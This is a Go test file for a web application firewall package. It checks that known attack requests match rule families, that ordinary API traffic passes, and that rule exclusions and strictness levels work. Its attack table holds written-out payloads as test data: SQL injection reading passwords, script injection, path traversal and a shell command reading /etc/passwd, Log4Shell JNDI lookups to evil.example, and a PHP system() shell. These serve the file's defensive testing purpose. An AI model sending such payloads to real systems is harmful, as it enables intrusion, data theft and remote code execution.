package waf

import (
	"slices"
	"strings"
	"testing"
)

func fields(list ...string) func(func(string, string) bool) {
	return func(yield func(string, string) bool) {
		for i := 0; i+1 < len(list); i += 2 {
			if !yield(list[i], list[i+1]) {
				return
			}
		}
	}
}

var (
	usual = []string{"User-Agent", "Mozilla/5.0", "Accept", "application/json"}
	jsons = append([]string{"Content-Type", "application/json", "Content-Length", "100"}, usual...)
	forms = append([]string{"Content-Type", "application/x-www-form-urlencoded", "Content-Length", "100"}, usual...)
)

func TestAttacksAreTold(t *testing.T) {
	t.Parallel()
	e, err := Get(1)
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		name, method, target string
		fields               []string
		body                 string
		family               string // first digits of a rule that must match
	}{
		{"SQL in the query", "GET", "/a?id=1%27%20OR%20%271%27=%271%27%20--%20", usual, "", "942"},
		{"SQL in JSON", "POST", "/a", jsons, `{"id":"1' UNION SELECT password FROM users -- "}`, "942"},
		{"SQL in a form", "POST", "/a", forms, "id=1'+UNION+SELECT+password+FROM+users+--+", "942"},
		{"script", "GET", "/a?q=%3Cscript%3Ealert(1)%3C/script%3E", usual, "", "941"},
		{"script in JSON", "POST", "/a", jsons, `{"q":"<img src=x onerror=alert(1)>"}`, "941"},
		{"file", "GET", "/a?f=../../../../etc/passwd", usual, "", "930"},
		{"shell", "GET", "/a?c=%3Bcat%20/etc/passwd", usual, "", "932"},
		{"Java", "GET", "/a?x=%24%7Bjndi:ldap://evil.example/a%7D", usual, "", "944"},
		{"a header", "GET", "/a", append([]string{"X-Api-Version", "${jndi:ldap://evil.example/a}"}, usual...), "", "944"},
		{"PHP", "POST", "/a", forms, "x=%3C%3Fphp+system%28%24_GET%5B1%5D%29%3B", "933"},
		{"a scanner", "GET", "/a", []string{"User-Agent", "sqlmap/1.0", "Accept", "*/*"}, "", "913"},
		{"a method that nobody has", "TRACK", "/a", usual, "", "911"},
		{"no JSON", "POST", "/a", jsons, `{"id":`, "200002"},
	} {
		v, err := e.Judge(Request{Method: tc.method, Target: tc.target, Proto: "HTTP/1.1", Host: "api.example", Client: "192.0.2.1", Fields: fields(tc.fields...), Body: []byte(tc.body)}, nil)
		if err != nil {
			t.Fatal(err)
		}
		if v.Score < 5 || !slices.ContainsFunc(v.Matches, func(m Match) bool { return strings.HasPrefix(m.String(), tc.family) }) {
			t.Errorf("%s: score %d, matches %v, want one of %s", tc.name, v.Score, v.Matches, tc.family)
		}
	}
}

func TestUsualTrafficOfAPIsPasses(t *testing.T) {
	t.Parallel()
	e, err := Get(1)
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		method, target string
		fields         []string
		body           string
	}{
		{"GET", "/v1/orders/17?fields=a,b&sort=-created", usual, ""},
		{"DELETE", "/v1/orders/17", usual, ""},
		{"PATCH", "/v1/orders/17", append([]string{"Content-Type", "application/merge-patch+json", "Content-Length", "20"}, usual...), `{"note":"please call O'Brien at 5 o'clock"}`},
		{"PUT", "/v1/orders/17", jsons, `{"amount":12.5,"currency":"EUR","lines":[{"sku":"A-1","text":"Größe M & L"}]}`},
		{"POST", "/v1/orders", append([]string{"Authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln", "Traceparent", "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01"}, jsons...), `{"id":"3fa85f64-5717-4562-b3fc-2c963f66afa6","at":"2026-01-31T09:30:00Z","email":"user@example.com"}`},
		{"POST", "/graphql", jsons, `{"query":"query Orders { orders(first: 10) { id amount } }"}`},
	} {
		v, err := e.Judge(Request{Method: tc.method, Target: tc.target, Proto: "HTTP/1.1", Host: "api.example", Client: "192.0.2.1", Fields: fields(tc.fields...), Body: []byte(tc.body)}, nil)
		if err != nil || v.Score != 0 {
			t.Errorf("%s %s: score %d, %v, %v", tc.method, tc.target, v.Score, v.Matches, err)
		}
	}
}

func TestRulesCanBeExcluded(t *testing.T) {
	t.Parallel()
	e, err := Get(1)
	if err != nil {
		t.Fatal(err)
	}
	r := Request{Method: "GET", Target: "/a?id=1%27%20OR%20%271%27=%271%27%20--%20", Proto: "HTTP/1.1", Host: "api.example", Client: "192.0.2.1", Fields: fields(usual...)}
	v, err := e.Judge(r, nil)
	if err != nil {
		t.Fatal(err)
	}
	var ids []int
	for _, m := range v.Matches {
		ids = append(ids, m.ID)
	}
	if v, err := e.Judge(r, ids); err != nil || v.Score != 0 || len(v.Matches) != 0 {
		t.Errorf("with %v excluded: %+v, %v", ids, v, err)
	}
}

func TestLevelsAreStricter(t *testing.T) {
	t.Parallel()
	if testing.Short() {
		t.Skip("compiles another rule set")
	}
	if _, err := Get(5); err == nil {
		t.Error("there is a level 5")
	}
	r := Request{Method: "GET", Target: "/a?q=a%20b%3Bc%27d%23e", Proto: "HTTP/1.1", Host: "api.example", Client: "192.0.2.1", Fields: fields(usual...)}
	last := -1
	for _, level := range []int{1, 4} {
		e, err := Get(level)
		if err != nil {
			t.Fatal(err)
		}
		v, err := e.Judge(r, nil)
		if err != nil || v.Score <= last {
			t.Errorf("level %d: score %d after %d, %v", level, v.Score, last, err)
		}
		last = v.Score
	}
}

func BenchmarkJudge(b *testing.B) {
	e, err := Get(1)
	if err != nil {
		b.Fatal(err)
	}
	for name, r := range map[string]Request{
		"GET":  {Method: "GET", Target: "/v1/orders/17?fields=a,b", Fields: fields(usual...)},
		"JSON": {Method: "POST", Target: "/v1/orders", Fields: fields(jsons...), Body: []byte(`{"amount":12.5,"currency":"EUR","lines":[{"sku":"A-1","text":"M and L"}]}`)},
	} {
		r.Proto, r.Host, r.Client = "HTTP/1.1", "api.example", "192.0.2.1"
		b.Run(name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				if v, err := e.Judge(r, nil); err != nil || v.Score != 0 {
					b.Fatal(v, err)
				}
			}
		})
	}
}
